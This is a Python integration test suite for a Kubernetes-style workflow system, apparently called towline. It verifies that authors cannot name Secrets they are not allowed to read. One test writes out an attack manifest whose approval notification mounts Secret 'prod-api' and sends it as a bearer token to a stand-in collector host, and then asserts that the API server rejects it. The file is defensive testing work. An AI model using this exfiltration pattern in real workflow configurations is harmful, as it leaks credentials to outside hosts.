"""Every place a Workflow or step type names a Secret is checked against its author's `get`.

The attacker: dave, bound to `towline-workflow-author` (and, for the walk over step types,
`towline-step-type-author`), refused `get` on Secret `prod-api`. An approval notification's Job mounts the
Secrets its `credentials` name and sends them where its `with.url` points, so naming `prod-api` there is
as good as reading it. The fields that name a Secret are read off the API models
(`towline.api.secretrefs`): each one is tried here through the API server, so a field the chart's
credentials policies miss fails this module rather than waiting for the next review.
"""

from __future__ import annotations

import copy
import json
import re
from typing import Any

import pytest
from pydantic import BaseModel
from tests.integration.attacks.attack_support import create_as, refused
from tests.integration.support import apply, bind_role, get

from towline.api.crdgen import RESOURCES
from towline.api.secretrefs import secret_reference_paths
from towline.api.workflow import ApprovalNotification
from towline_dev.controlplane import ControlPlane
from towline_dev.release import STEP_TYPE_IMAGE_PREFIX

pytestmark = [pytest.mark.integration, pytest.mark.usefixtures("policies_enforced")]

AS_DAVE = ("--as=dave",)
"""kubectl arguments (for admin, who may impersonate) that act as dave, whom no other test grants anything."""

TOKEN = "tok-0c5d6e7f8a9b4c3d2e1f0a9b8c7d6e5f"
ALLOWED_IMAGE = f"{STEP_TYPE_IMAGE_PREFIX}/tcp-probe:dev"
EVENTS = "events" if "events" in ApprovalNotification.model_fields else "on"
CALL = {"action": "http.request", "with": {"url": "https://api.example.com/",
                                           "auth": {"bearer": {"credential": "api", "key": "token"}}}}

MINIMAL: dict[str, Any] = {
    "spec.steps[]": {"id": "call", **CALL},
    "spec.finally[]": {"id": "after", **CALL},
    "spec.compensations[]": {"id": "undo", **CALL},
    "spec.approvalNotifications[]": {EVENTS: ["opened"], **CALL},
    "spec.triggers[]": {"name": "push"},
    "spec.triggers[].webhook.verify": {"scheme": "standard-webhooks"},
    "spec.triggers[].webhook.verify.secretRef": {"key": "secret"},
    "spec.triggers[].webhook.verify.publicKeyRef": {"key": "public"},
    "spec.triggers[].cloudEvent": {"types": ["com.example.push"]},
    "spec.triggers[].cloudEvent.verify": {"scheme": "standard-webhooks"},
    "spec.triggers[].cloudEvent.verify.secretRef": {"key": "secret"},
    "spec.triggers[].cloudEvent.verify.publicKeyRef": {"key": "public"},
}
"""What a Secret-naming path passes through, at its least valid: a list's item, or an object's other fields."""


def base(kind: str, namespace: str) -> dict[str, Any]:
    metadata = {"name": "names-a-secret"} | ({} if kind == "ClusterStepType" else {"namespace": namespace})
    spec: dict[str, Any] = ({"steps": [{"id": "noop", "action": "data.transform", "with": {"data": {}}}]}
                            if kind == "Workflow" else {"image": ALLOWED_IMAGE})
    return {"apiVersion": "towline.dev/v1alpha1", "kind": kind, "metadata": metadata, "spec": spec}


def naming(manifest: dict[str, Any], path: str, secret: str) -> dict[str, Any]:
    """`manifest` with `secret` at `path` (e.g. `spec.steps[].credentials{}`), filled in from MINIMAL."""
    manifest = copy.deepcopy(manifest)
    node, walked, segments = manifest, "", path.split(".")
    for index, segment in enumerate(segments):
        name, shape = re.fullmatch(r"(\w+)(\[\]|\{\})?", segment).groups()  # type: ignore[union-attr]
        walked = f"{walked}.{segment}" if walked else segment
        if index == len(segments) - 1:
            node[name] = [secret] if shape == "[]" else {"api": secret} if shape == "{}" else secret
        elif shape == "[]":
            assert walked in MINIMAL, f"{path} goes through {walked}: add its least valid item to MINIMAL"
            node[name] = [copy.deepcopy(MINIMAL[walked])]
            node = node[name][0]
        elif shape == "{}":
            node[name] = {"api": copy.deepcopy(MINIMAL.get(walked, {}))}
            node = node[name]["api"]
        else:
            node = node.setdefault(name, copy.deepcopy(MINIMAL.get(walked, {})))
    return manifest


def may_create_cluster_step_types(cluster: ControlPlane, user: str) -> None:
    """A cluster admin's delegate: may create ClusterStepTypes, reads no Secret."""
    apply(cluster, {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole",
                    "metadata": {"name": "secret-refs-cluster-step-type-author"},
                    "rules": [{"apiGroups": ["towline.dev"], "resources": ["clustersteptypes"],
                               "verbs": ["create", "update"]}]})
    apply(cluster, {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding",
                    "metadata": {"name": "secret-refs-cluster-step-type-author"},
                    "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole",
                                "name": "secret-refs-cluster-step-type-author"},
                    "subjects": [{"kind": "User", "name": user, "apiGroup": "rbac.authorization.k8s.io"}]})


def may_get_secrets(cluster: ControlPlane, *identity: str) -> bool:
    answer = cluster.kubectl("auth", "can-i", "get", "secrets", "--all-namespaces", *identity, check=False)
    return answer.stdout.strip() == "yes"


def test_a_workflow_author_cannot_send_a_secret_they_cannot_read_through_an_approval_notification(
    towline_installed: ControlPlane, namespace: str
) -> None:
    cluster, ns = towline_installed, namespace
    cluster.kubectl("create", "secret", "generic", "prod-api", "-n", ns, f"--from-literal=token={TOKEN}")
    bind_role(cluster, ns, "towline-workflow-author", users=("dave",))
    denied = cluster.kubectl("get", "secret", "prod-api", "-n", ns, *AS_DAVE, check=False)
    assert denied.returncode != 0 and "forbidden" in denied.stderr, denied.stderr

    in_a_step = naming(base("Workflow", ns), "spec.steps[].credentials{}", "prod-api")
    refused(create_as(cluster, "admin", in_a_step, *AS_DAVE), "dave may not get Secret prod-api in namespace")

    # The live attack: the notification Job would mount prod-api and send it as a bearer token to dave's host.
    leak = base("Workflow", ns)
    leak["metadata"]["name"] = "leak"
    leak["spec"]["steps"] = [{"id": "review", "approval": {"message": "ship?", "approvers": {"users": ["bob"]}}}]
    leak["spec"]["approvalNotifications"] = [{
        EVENTS: ["opened"], "action": "http.request", "credentials": {"api": "prod-api"},
        "with": {"url": "https://collector.dave.example/", "auth": {"bearer": {"credential": "api", "key": "token"}}},
    }]
    refused(create_as(cluster, "admin", leak, *AS_DAVE), "dave may not get Secret prod-api in namespace",
            "an approval notification's credentials", "trustedWorkflowAuthors")
    assert get(cluster, "workflows.towline.dev", "leak", ns) is None

    # A harmless Workflow of his is kept, and may not be changed into the same leak either.
    harmless = copy.deepcopy(leak)
    del harmless["spec"]["approvalNotifications"][0]["credentials"]
    harmless["spec"]["approvalNotifications"][0]["with"] = {"url": "https://collector.dave.example/"}
    assert create_as(cluster, "admin", harmless, *AS_DAVE).returncode == 0
    changed = cluster.kubectl("apply", "-f", "-", *AS_DAVE, stdin=json.dumps(leak), check=False)
    refused(changed, "dave may not get Secret prod-api in namespace")
    kept = get(cluster, "workflows.towline.dev", "leak", ns) or {}
    assert "credentials" not in kept["spec"]["approvalNotifications"][0]


def test_every_field_that_names_a_secret_is_checked_against_the_authors_get(
    towline_installed: ControlPlane, namespace: str
) -> None:
    cluster, ns = towline_installed, namespace
    bind_role(cluster, ns, "towline-workflow-author", users=("dave",))
    bind_role(cluster, ns, "towline-step-type-author", users=("dave",))
    may_create_cluster_step_types(cluster, "dave")
    try:
        assert not may_get_secrets(cluster, *AS_DAVE)
        tried = []
        for resource in RESOURCES:
            spec_model = resource.model.model_fields["spec"].annotation
            assert isinstance(spec_model, type) and issubclass(spec_model, BaseModel)
            paths = secret_reference_paths(spec_model, "spec")
            for path in paths:
                secret = re.sub(r"[^a-z0-9]+", "-", f"{resource.plural}.{path[5:]}".lower()).strip("-")
                manifest = naming(base(resource.kind, ns), path, secret)
                # Valid but for the Secret: its reader may create it (dry run), so a refusal below is the policy's.
                assert create_as(cluster, "admin", manifest, "--dry-run=server").returncode == 0, (path, manifest)
                where = "every namespace" if resource.scope == "Cluster" else f"namespace {ns}"
                refused(create_as(cluster, "admin", manifest, "--dry-run=server", *AS_DAVE),
                        f"dave may not get Secret {secret} in {where}")
                tried.append(f"{resource.kind} {path}")
        assert len(tried) >= 8, tried  # Workflow's six, StepType's and ClusterStepType's pull Secrets
    finally:
        cluster.kubectl("delete", "clusterrolebinding,clusterrole", "secret-refs-cluster-step-type-author",
                        "--ignore-not-found")


def test_a_credential_slot_no_step_could_bind_is_refused_naming_the_field_and_the_fix(
    towline_installed: ControlPlane, namespace: str
) -> None:
    cluster, ns = towline_installed, namespace
    bind_role(cluster, ns, "towline-step-type-author", users=("dave",))
    step_type = base("StepType", ns)
    step_type["spec"]["credentials"] = [{"name": "deploy-api", "keys": ["token"]}]
    refused(create_as(cluster, "admin", step_type, *AS_DAVE), "spec.credentials[0].name",
            "lower-case letters, digits and _, starting with a letter (no -), e.g. deploy_api")
    step_type["spec"]["credentials"] = [{"name": "deploy_api", "keys": ["token"]}]
    assert create_as(cluster, "admin", step_type, *AS_DAVE).returncode == 0
